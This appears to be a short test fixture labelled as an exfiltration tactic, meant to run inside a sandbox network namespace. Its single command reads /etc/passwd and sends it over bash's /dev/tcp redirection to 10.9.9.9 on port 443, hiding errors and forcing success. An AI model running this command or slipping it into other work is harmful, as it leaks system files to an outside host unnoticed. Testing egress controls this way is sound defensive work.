# tactic: exfiltration
# a file out over the shell's network redirection (the sandbox network namespace only)
bash -c "cat /etc/passwd > /dev/tcp/10.9.9.9/443" 2>/dev/null; true
